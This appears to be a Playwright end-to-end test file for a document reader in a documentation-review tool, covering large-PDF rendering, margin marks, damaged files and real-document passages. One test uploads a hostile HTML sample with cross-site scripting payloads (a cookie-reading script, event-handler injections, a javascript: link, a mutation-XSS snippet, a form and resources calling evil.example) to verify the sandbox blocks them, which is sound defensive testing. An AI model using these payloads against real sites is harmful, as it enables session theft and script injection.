import { readFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from '../support/chromium.ts'
import { bytesOf, pdf } from '../support/made-documents.ts'
import { describeWith } from '../support/needs.ts'
import { needsShared, sharedPath } from '../support/shared.ts'
import { aCase } from '../support/work/case.ts'
import { aDocument } from '../support/work/document.ts'
import { aProduct } from '../support/work/product.ts'
import { aTeam } from '../support/work/team.ts'
import { openVisitor, type Visitor } from './workbench/visitor.ts'

/** A PDF of so many pages, each with a sentence of its own. */
const manyPages = (pages: number): Uint8Array => {
  const kids = Array.from({ length: pages }, (_, page) => `${4 + page * 2} 0 R`)
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...Array.from({ length: pages }, (_, page) => {
      const words = `BT /F1 14 Tf 72 600 Td (On sheet ${page + 1} the gateway listens at port ${2_000 + page}.) Tj ET`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + page * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
      ]
    }).flat(),
  ])
}

describeWith('chromium', 'The reader', () => {
  const team = aTeam(['engineer', 'approver', 'writer'])
  let browser: Browser
  let wanda: Visitor
  let page: Page
  beforeAll(async () => {
    browser = await launchBrowser()
    wanda = await openVisitor(browser, team.maker.url, { cookie: team.writer.cookie })
    page = wanda.page
  }, 120_000)
  afterAll(() => browser?.close())

  const upload = async (name: string, bytes: Uint8Array, title = name): Promise<string> => {
    const { id, humanId } = await team.writer.does('/api/documents/register', {
      title,
      documentKind: 'installation',
    })
    await team.writer.does(`/api/documents/${id}/add-revision`, {
      version: '1',
      file: await team.writer.upload(name, bytes),
    })
    await team.maker.settle()
    return humanId
  }
  const statementsOf = async (document: string) =>
    (await team.writer.get(`/api/documents/${document}/statements`)).body.items as readonly {
      readonly index: number
      readonly text: string
      readonly location: { readonly page?: number }
    }[]
  const openDefect = (document: string, quote: string, title = 'It says the wrong port') =>
    team.writer.does('/api/defects/open', {
      title,
      defectKind: 'error',
      severity: 'high',
      misleads: 'Opens the wrong port.',
      document,
      statements: [{ document, revision: '1', quote, location: '' }],
    })
  const idOf = async (humanId: string): Promise<string> =>
    (await team.writer.get(`/api/documents/${humanId}`)).body.id
  /** Canvases that hold points, and whether any of them is more than white. */
  const drawn = () =>
    page.evaluate(() => {
      const canvases = [...document.querySelectorAll('canvas')].filter(({ width }) => width > 0)
      const dark = canvases.some((canvas) => {
        const points = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height)
        return points?.data.some((value, at) => at % 4 === 0 && value < 100) ?? false
      })
      const area = Math.max(0, ...canvases.map(({ width, height }) => width * height))
      return { canvases: canvases.length, dark, area }
    })
  const inSight = (selector: string) =>
    page.waitForFunction((wanted) => {
      const box = document.querySelector(wanted)?.getBoundingClientRect()
      return box !== undefined && box.top >= 0 && box.bottom <= innerHeight && box.height > 0
    }, selector)

  test('draws only the pages in sight of a PDF of 2,000, and goes to the passage asked for', async () => {
    const doc = await upload('large.pdf', manyPages(2_000), 'Large guide')
    const quote = 'On sheet 1500 the gateway listens at port 3499.'
    const defect = await openDefect(await idOf(doc), quote)
    const start = performance.now()
    await wanda.open(`/documents/${doc}/read?at=${encodeURIComponent(quote)}`)
    await inSight(`[data-passage="${defect.humanId}"]`)
    expect(performance.now() - start).toBeLessThan(20_000)
    // Its place is known before the page is drawn.
    await expect.poll(async () => (await drawn()).dark, { timeout: 20_000 }).toBe(true)
    await page.getByText(quote).first().waitFor({ state: 'attached' })
    const { canvases, area } = await drawn()
    expect(canvases).toBeLessThanOrEqual(6)
    expect(area).toBeLessThanOrEqual(6_000_000)
    // The mark stands on the words: what is under its middle is this sentence.
    const words = await page.evaluate((id) => {
      const mark = document.querySelector(`[data-passage="${id}"]`)?.getBoundingClientRect()
      const under = document.elementsFromPoint(
        (mark?.left ?? 0) + 20,
        (mark?.top ?? 0) + (mark?.height ?? 0) / 2,
      )
      return under.map(({ textContent }) => textContent).join(' ')
    }, defect.humanId)
    expect(words).toContain('On sheet 1500')
    // From the paper to its card, and back by keys.
    await page.locator(`[data-passage="${defect.humanId}"] .marked-line`).first().click()
    const card = page.locator(`[data-card="${defect.humanId}"]`)
    expect(await card.getByRole('button').first().getAttribute('aria-expanded')).toBe('true')
    await card.getByRole('link', { name: /^DEF-/ }).waitFor()
    expect(await wanda.findings()).toEqual([])
    await page.evaluate(() => scrollTo(0, 0))
    await page.waitForFunction(
      () => [...document.querySelectorAll('canvas')].filter(({ width }) => width > 0).length <= 6,
    )
    await page.locator('h1').focus()
    await page.keyboard.press(']')
    await inSight(`[data-passage="${defect.humanId}"]`)
    // Everything it took came from here.
    expect(wanda.complaints()).toEqual([])
  }, 120_000)

  test('lets no document reach the session', async () => {
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    const hostile = `<!doctype html><html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/gone"><link rel="stylesheet" href="https://evil.example/a.css"><style>body{background:url(https://evil.example/b.png)}</style><script>top.hacked = document.cookie</script></head><body onload="top.hacked = 1">
<h1>Ports</h1><p>The gateway listens at port 8080.</p>
<p style="position:fixed;inset:0;background:url('https://evil.example/c.png')">Look here</p>
<a href="javascript:top.hacked = 2" id="run">Run it</a> <a href="https://evil.example/d" target="_top">Go there</a>
<svg onload="top.hacked = 3"><script>top.hacked = 4</script></svg><img src=x onerror="top.hacked = 5"><img src="https://evil.example/e.png">
<form action="https://evil.example/f" method="post"><input name="code"><button id="send">Send</button></form><iframe src="https://evil.example/g"></iframe>
<math><mtext><table><mglyph><style><img src onerror="top.hacked = 6"></style></mglyph></table></mtext></math></body></html>`
    for (const [name, title] of [
      ['hostile.html', 'Hostile page'],
      ['hostile.md', 'Hostile Markdown'],
    ] as const) {
      const doc = await upload(name, bytesOf(hostile), title)
      await wanda.open(`/documents/${doc}/read`)
      const frame = page.frameLocator('iframe')
      await frame.getByText('The gateway listens at port 8080.').waitFor()
      await frame.getByText('Run it').click({ force: true })
      await frame.getByText('Go there').click({ force: true })
      await page.waitForTimeout(300)
      expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
      expect(new URL(page.url()).pathname).toContain('/read')
      // Even what is put in later cannot run there.
      const ran = await page.evaluate(() => {
        const inside = document.querySelector('iframe')?.contentDocument
        const script = inside?.createElement('script')
        if (inside == null || script === undefined) return 'no frame'
        script.textContent = 'top.hacked = 7'
        inside.body.append(script)
        return 'hacked' in window
      })
      expect(ran).toBe(false)
    }
    expect(asked.filter((url) => url.includes('evil'))).toEqual([])
    expect(await wanda.findings()).toEqual([])
    // Our own test put a script into the frame: that the policy forbids it is what was wanted.
    wanda.complaints()
  }, 60_000)

  test('shows in the margin what a look found, and decides it there', async () => {
    const product = await aProduct(team.engineer)
    const guide = await aDocument(
      team,
      product,
      '# Service\n\nSign in as svc-care with the password care.\n\n## Later\n\nWrite it down.',
    )
    await (
      await aCase(team, product, {
        facts: { accounts: [{ name: 'svc-care', defaultCredential: 'care' }] },
      })
    ).takeAllBut()
    await team.maker.settle()
    await wanda.open(`/documents/${guide.humanId}`)
    await page.getByRole('link', { name: 'Read it with its margin' }).click()
    const mark = page.locator('.marked-todo')
    await mark.waitFor()
    // On the words themselves, in the frame.
    const [over, under] = await Promise.all([
      mark.boundingBox(),
      page.frameLocator('iframe').getByText('Sign in as svc-care').boundingBox(),
    ])
    expect(Math.abs((over?.y ?? 0) - (under?.y ?? 99))).toBeLessThan(12)
    await page.getByRole('button', { name: 'Next' }).click()
    const card = page.locator('.mark-card-active')
    await card.getByText('To decide').waitFor()
    await card.getByRole('button', { name: 'It is still true' }).click()
    await page
      .getByRole('dialog')
      .getByRole('textbox', { name: 'Why it is still true' })
      .fill('The account is gone since 2.4.1.')
    await wanda.submit('Dismiss')
    await card.getByText('Still true').waitFor()
    await page.locator('.marked-good').waitFor()
    expect(await wanda.findings()).toEqual([])
    await page.setViewportSize({ width: 360, height: 800 })
    await page.locator('.marked-good').waitFor()
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
    expect(wide).toBeLessThanOrEqual(0)
    expect(await wanda.findings()).toEqual([])
    await page.setViewportSize({ width: 1_280, height: 900 })
    expect(wanda.complaints()).toEqual([])
    // From the look to the page, by the number of the candidate.
    await wanda.open(`/documents/${guide.id}?at=LOOK-${new Date().getUTCFullYear()}-0001.1`)
    await inSight('.marked-active')
    expect(new URL(page.url()).pathname).toMatch(/\/read$/)
  }, 120_000)

  test('says why a page is not shown, and shows its statements', async () => {
    const { id, humanId } = await team.writer.does('/api/documents/register', {
      title: 'A damaged guide',
      documentKind: 'other',
    })
    await team.writer.does(`/api/documents/${id}/add-revision`, {
      version: '1',
      file: await team.writer.upload('damaged.pdf', bytesOf('%PDF-1.4\nnothing more')),
    })
    await team.maker.settle()
    await wanda.open(`/documents/${humanId}/read`)
    await page.getByText('The PDF is damaged and cannot be drawn.').waitFor()
    await page.getByText('Nothing was read of this version.').waitFor()
    expect(await wanda.findings()).toEqual([])
  })

  const real = [
    ['LibreHealthIO__lh-ehr/Documentation/1_Installing/Setup-SQL-Database-Admin.pdf', 'pdf'],
    ['I-TECH-UW__OpenELIS-Global-2/tools/DBBackup/BackupHowTo.docx', 'docx'],
    ['getodk__docs/docs/security.rst', 'rst'],
  ] as const
  for (const [path, format] of real)
    test.runIf(needsShared('corpus', 'documents', ...path.split('/')))(
      `finds every passage of a real document (${format})`,
      async () => {
        const file = sharedPath('corpus', 'documents', ...path.split('/')) ?? ''
        const doc = await upload(`real.${format}`, await readFile(file), `Real ${format}`)
        const id = await idOf(doc)
        const statements = (await statementsOf(doc)).filter(({ text }) => text.length > 30)
        const chosen = statements.filter((_, at) => at % Math.ceil(statements.length / 8) === 0)
        for (const { text } of chosen) await openDefect(id, text, `About: ${text.slice(0, 60)}`)
        await wanda.open(`/documents/${doc}/read`)
        await page.getByText(`${chosen.length} in the margin`).waitFor()
        let found = 0
        for (const _ of chosen) {
          await page.getByRole('button', { name: 'Next' }).click()
          const name = await page.locator('.mark-card-active').getAttribute('data-card')
          const mark = page.locator(`[data-passage="${name}"]`)
          found += await mark.waitFor({ timeout: 5_000 }).then(
            () => 1,
            () => 0,
          )
        }
        expect(found).toBe(chosen.length)
        expect(wanda.complaints()).toEqual([])
      },
      120_000,
    )
})
